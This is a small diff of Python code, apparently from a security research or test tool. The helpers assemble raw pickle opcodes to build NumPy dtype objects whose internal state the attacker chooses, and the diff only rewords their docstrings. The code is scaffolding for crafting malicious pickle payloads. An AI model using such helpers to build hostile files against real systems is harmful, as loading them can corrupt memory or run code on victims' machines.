@@ -10,12 +10,12 @@ def short(text):
 
 
 def call(module, function, *arguments):
-    """STACK_GLOBAL, a tuple of arguments, REDUCE."""
+    """Return STACK_GLOBAL, a tuple of arguments and REDUCE."""
     return short(module) + short(function) + b"\x93(" + b"".join(arguments) + b"tR"
 
 
 def dtype(code, state):
-    """A type of NumPy's with a state of the attacker's own."""
+    """Return a NumPy type with a state of the attacker's choice."""
     created = call("numpy", "dtype", short(code), b"\x89", b"\x88")
     return created + b"(" + b"".join(pickle.dumps(part, 2)[2:-1] for part in state) + b"tb"
 
@@ -28,7 +28,7 @@ def array(dtype_bytes, content, shape=(1,)):
 
 
 def built(code, order="<", size=-1, alignment=-1, flags=0, subtype=None, version=3):
-    """A type without fields by the parts of its state."""
+    """Return a type without fields by the parts of its state."""
     return dtype(code, (version, order, subtype, None, None, size, alignment, flags))
 
 
